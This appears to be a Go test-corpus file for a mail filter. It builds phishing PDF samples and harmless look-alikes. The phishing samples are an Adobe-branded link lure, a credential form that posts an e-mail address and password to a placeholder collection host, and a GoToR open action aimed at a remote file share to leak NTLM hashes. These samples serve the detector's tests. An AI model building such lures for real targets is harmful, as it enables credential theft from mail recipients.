package corpus

import (
	"github.com/kensa-milter/kensa/internal/corpus/formats"
	"github.com/kensa-milter/kensa/policy"
)

// pdfPhishSamples are PDFs that phish without a script: a page that is a
// button to a document elsewhere, a form asking for a password, an action
// that opens a share on the Internet; and honest PDFs that look like them.
func pdfPhishSamples() []Sample {
	bad := func(name, about string, wants ...Want) Sample {
		return Sample{Name: name, About: about, Action: policy.Quarantine, Want: wants}
	}
	ok := func(name, about string) Sample { return Sample{Name: name, Clean: true, About: about} }
	var out []Sample
	add := func(s Sample, m mail) { out = append(out, build(s, m)) }
	body := text("Hello,\n\nplease see the attached document.\n\nRegards\n")
	link := func(uri string) string {
		return "<< /Type /Annot /Subtype /Link /Rect [40 520 555 800] /Border [0 0 0] /A << /S /URI /URI (" + uri + ") >> >>"
	}

	button := formats.TextPDF([]string{
		"BT /F1 22 Tf 72 760 Td (Adobe Document Cloud) Tj ET\n" +
			"BT /F1 13 Tf 72 720 Td (Remittance advice 0042 for Northwind Traders.) Tj ET\n" +
			"0.1 0.4 0.8 rg 72 600 200 40 re f\n" +
			"BT 1 1 1 rg /F1 16 Tf 100 614 Td (VIEW DOCUMENT) Tj ET\n"}, link("https://docs-viewer.example.net/d/88412"))
	add(bad("pdf-link-lure-button", "a one-page PDF naming Adobe with a \"VIEW DOCUMENT\" button (white on blue, the page's only ask) whose link goes to a host of neither Adobe nor the sender: the link is not in the mail",
		w("heuristic", "pdf-link-lure", "2")),
		mail{from: "Accounts <accounts@northwind-traders.example.com>", subject: "Remittance advice", root: multipart("mixed", body, attach("application/pdf", "Remittance_0042.pdf", button))})

	// A picture-only page has no font: a PDF of its own, not TextPDF's.
	picture := formats.PDF(
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /XObject << /Im0 4 0 R >> >> /Contents 5 0 R /Annots [6 0 R] >>",
		formats.PDFStream("/Type /XObject /Subtype /Image /Width 4 /Height 2 /ColorSpace /DeviceGray /BitsPerComponent 8", []byte{0x40, 0xC0, 0x90, 0x30, 0xC0, 0x40, 0x70, 0xE0}),
		formats.PDFStream("", []byte("q 515 0 0 280 40 520 cm /Im0 Do Q\n")),
		link("https://docs-viewer.example.net/d/90017"))
	add(bad("pdf-link-lure-picture", "a PDF whose page is only a (blurred) picture of a document and a link over it to one host",
		w("heuristic", "pdf-link-lure", "2")),
		mail{from: "Accounts <accounts@northwind-traders.example.com>", subject: "Invoice 90017", root: multipart("mixed", body, attach("application/pdf", "Invoice_90017.pdf", picture))})

	form := formats.PDF(
		"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R 5 0 R 6 0 R] /NeedAppearances true >> >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R 5 0 R 6 0 R] >>",
		"<< /Type /Annot /Subtype /Widget /FT /Tx /T (email) /Rect [72 700 400 724] /P 3 0 R >>",
		"<< /Type /Annot /Subtype /Widget /FT /Tx /T (password) /Ff 8192 /Rect [72 660 400 684] /P 3 0 R >>",
		"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (signin) /Rect [72 610 200 640] /P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (https://collect.docs-viewer.example.net/p) >> /Flags 4 >> >>")
	add(bad("pdf-credential-form", "a PDF form asking for an e-mail address and a password, its Sign in button submitting them to the web",
		w("heuristic", "pdf-credential-form", "2")),
		mail{from: "IT Service Desk <it@northwind-traders.example.com>", subject: "Mailbox re-validation form", root: multipart("mixed", body, attach("application/pdf", "Revalidation.pdf", form))})

	share := formats.PDF(
		"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR /F (\\\\\\\\198.51.100.7\\\\statements\\\\q3.pdf) /D [0 /Fit] >> >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
	add(bad("pdf-share-gotor", "a PDF whose open action goes to a PDF on a file share at an Internet address (GoToR), which sends the reader's NTLM hash",
		w("heuristic", "remote-fetch", "2")),
		mail{from: "Accounts <accounts@northwind-traders.example.com>", subject: "Statement", root: multipart("mixed", body, attach("application/pdf", "Statement.pdf", share))})

	// Honest twins.
	// The flyer from another writer: one simple font, its own layout.
	flyer := formats.PDF(
		"<< /Type /Catalog /Pages 2 0 R /Lang (en-GB) >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] /Resources << /Font << /TT1 4 0 R >> >> /Contents 5 0 R /Annots [6 0 R] >>",
		"<< /Type /Font /Subtype /TrueType /BaseFont /Georgia /FirstChar 32 /LastChar 126 /Encoding /WinAnsiEncoding >>",
		formats.PDFStream("", []byte("BT /TT1 28 Tf 40 520 Td (Summer concert) Tj 0 -34 Td (in the park) Tj ET\n"+
			"0.9 0.6 0.1 rg 40 380 340 60 re f\n"+
			"BT 0 g /TT1 14 Tf 52 415 Td (Saturday 7 pm, free entry.) Tj 0 -20 Td (Programme and tickets online.) Tj ET\n")),
		"<< /Type /Annot /Subtype /Link /Rect [40 380 380 440] /Border [0 0 0] /A << /S /URI /URI (https://tickets.example.org/summer) >> >>")
	add(ok("pdf-twin-flyer-link", "a one-page flyer whose link goes to another organisation's ticket site"),
		mail{from: "Parish office <office@stmary.example.com>", subject: "Summer concert", root: multipart("mixed", body, attach("application/pdf", "Concert.pdf", flyer))})
	portal := formats.TextPDF([]string{
		"BT /F1 18 Tf 72 760 Td (Northwind Traders) Tj ET\n" +
			"BT /F1 12 Tf 72 720 Td (Your statement for November is ready. Click here to view your document in the customer portal.) Tj ET\n"},
		link("https://portal.northwind-traders.example.com/statements/11"))
	add(ok("pdf-twin-own-portal", "a short PDF from a company asking to view a document on the company's own portal"),
		mail{from: "Accounts <accounts@northwind-traders.example.com>", subject: "November statement", root: multipart("mixed", body, attach("application/pdf", "Statement-Nov.pdf", portal))})
	order := formats.PDF(
		"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R 5 0 R] >> >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R 5 0 R] >>",
		"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 700 400 724] /P 3 0 R >>",
		"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) /Rect [72 610 200 640] /P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (https://forms.example.org/order) >> >> >>")
	add(ok("pdf-twin-order-form", "a PDF order form with a name field that submits to the web, no password field"),
		mail{from: "Club secretary <secretary@rowing.example.com>", subject: "Kit order form", root: multipart("mixed", body, attach("application/pdf", "KitOrder.pdf", order))})
	return out
}
